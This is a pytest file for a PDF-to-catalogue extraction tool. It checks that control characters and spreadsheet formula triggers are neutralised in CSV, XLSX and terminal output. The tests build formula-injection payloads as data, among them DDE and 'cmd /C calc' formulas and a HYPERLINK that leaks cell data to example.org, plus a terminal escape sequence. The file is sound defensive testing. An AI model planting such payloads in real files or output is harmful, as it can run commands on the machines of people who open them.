"""Text from a PDF (or from a catalogue.json given to `diff`) is data wherever it goes: no
control character reaches an output or the terminal unsaid, and no cell of any CSV or sheet
the tool writes is one a spreadsheet would run as a formula.

LibreOffice drops a leading NUL from a CSV cell and then runs the formula behind it, so the
guard looks at the text once its control characters are replaced (seen with LibreOffice 7.4:
`\\0=1+1` imported as a formula, `\\ufffd=1+1` as text).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from extract.cli import main
from extract.diff.compare import compare_catalogues
from extract.diff.report import changes_csv
from extract.linkcheck.models import Hop
from extract.linkcheck.report import LinkReport, ReportEdition, ReportedLink, render_csv
from extract.untrusted import CONTROL, FORMULA_TRIGGERS
from extract.write.frames import read_changes
from samples.typeset import typeset
from schemas.models import Catalogue
from tests.conftest import ROOT
from tests.hostile_files import CONTROL_TITLE_READ, control_source

EXTRACTION_2021 = ROOT / "output" / "ess-pvd-2021" / "catalogue.json"
# Cells that LibreOffice or Excel would run, as printed in a title.
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1;"clic")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\x00=1+1",
    "\t=1+1",
    "\r=1+1",
]


def strings(data: Any) -> list[str]:
    """Every string in a JSON document, keys too."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [*data, *(s for v in data.values() for s in strings(v))]
    if isinstance(data, list):
        return [s for v in data for s in strings(v)]
    return []


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def safe_cell(cell: str) -> bool:
    return not CONTROL.search(cell) and not cell.startswith(FORMULA_TRIGGERS)


@pytest.fixture(scope="module")
def control_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int, str]:
    folder = tmp_path_factory.mktemp("control")
    pdf = folder / "control.pdf"
    pdf.write_bytes(typeset(control_source(), "annotations", "portrait-2col"))
    out = folder / "out"
    with pytest.MonkeyPatch.context() as patch:
        err = io.StringIO()
        patch.setattr("sys.stderr", err)
        code = main(["extract", str(pdf), "-o", str(out)])
    return out, code, err.getvalue()


def test_control_characters_of_the_text_layer_reach_no_output(control_run):
    out, code, err = control_run
    assert code == 0, err
    catalogue = json.loads((out / "catalogue.json").read_text(encoding="utf-8"))
    assert catalogue["resources"][0]["title"] == CONTROL_TITLE_READ
    assert not [s for s in strings(catalogue) if CONTROL.search(s)]
    cards = (out / "cards.csv").read_text(encoding="utf-8")
    assert next(csv.DictReader(io.StringIO(cards)))["title"] == CONTROL_TITLE_READ
    assert all(safe_cell(cell) for cell in csv_cells(cards))
    book = openpyxl.load_workbook(out / "cards.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            assert not [v for v in row if isinstance(v, str) and CONTROL.search(v)], row
    assert book["resources"]["E2"].value == CONTROL_TITLE_READ


def test_a_control_character_is_said_naming_its_record(control_run):
    out, _, err = control_run
    catalogue = json.loads((out / "catalogue.json").read_text(encoding="utf-8"))
    said = [w for w in catalogue["warnings"] if w["code"] == "control-characters"]
    first = catalogue["resources"][0]
    assert [(w["card_id"], w["page"], w["message"]) for w in said] == [
        (first["card_id"], first["page"], "2 control characters in title replaced by \ufffd")
    ]
    assert "control-characters ×1" in err
    assert not CONTROL.search(err.replace("\n", ""))


@pytest.fixture(scope="module")
def catalogue_2021() -> Catalogue:
    return Catalogue.model_validate_json(EXTRACTION_2021.read_bytes())


def retitled(catalogue: Catalogue, titles: list[str]) -> Catalogue:
    changed = [
        r.model_copy(update={"title": title, "publisher": title})
        for r, title in zip(catalogue.resources, titles, strict=False)
    ]
    resources = changed + catalogue.resources[len(titles) :]
    return catalogue.model_copy(update={"resources": resources})


def test_changes_csv_is_neutralised_as_cards_csv_is(catalogue_2021, tmp_path):
    new = retitled(catalogue_2021, FORMULAS)
    text = changes_csv(compare_catalogues(catalogue_2021, new))
    cells = csv_cells(text)
    assert all(safe_cell(cell) for cell in cells), [c for c in cells if not safe_cell(c)]
    assert "'" + FORMULAS[0] in cells and "'+1+1" in cells
    assert "\ufffd=1+1" in cells and "'" + "\ufffd=1+1" not in cells
    # Read back as pandas, the text is as printed but for the control characters.
    (tmp_path / "changes.csv").write_text(text, encoding="utf-8")
    titles = read_changes(tmp_path).query("field == 'title'")["new"].tolist()
    assert titles == [
        f.replace("\x00", "\ufffd").replace("\t", "\ufffd").replace("\r", "\ufffd")
        for f in FORMULAS
    ]


def test_links_csv_is_neutralised_after_its_control_characters():
    link = ReportedLink(
        url="https://example.org/",
        card_ids=["guide"],
        outcome="failing",
        status=500,
        final_url=None,
        redirects=[Hop(status=302, url="https://example.org/\x00=1+1")],
        seconds=0.1,
        checked_at="2024-05-01T10:00:00Z",
        error="\x00=cmd|' /C calc'!A0",
    )
    edition = ReportEdition(title=None, source_file="x.pdf", sha256="0" * 64)
    report = LinkReport(edition=edition, summary={}, links=[link])
    cells = csv_cells(render_csv(report).decode("utf-8"))
    assert all(safe_cell(cell) for cell in cells)
    assert "\ufffd=cmd|' /C calc'!A0" in cells


def test_the_report_printed_on_a_terminal_obeys_no_escape_sequence(
    catalogue_2021, tmp_path, capsys
):
    """A catalogue.json given to diff is read as it is: its title may hold what a terminal
    would obey (here: set the window's title, then clear the screen)."""
    hostile = "\x1b]0;pwned\x07\x1b[2J GUIDE"
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    old.write_text(catalogue_2021.model_dump_json(), encoding="utf-8")
    new.write_text(retitled(catalogue_2021, [hostile]).model_dump_json(), encoding="utf-8")
    for format_ in ("markdown", "csv"):
        assert main(["diff", str(old), str(new), "--format", format_]) == 1
        out = capsys.readouterr().out
        assert "GUIDE" in out and not CONTROL.search(out.replace("\n", "")), format_
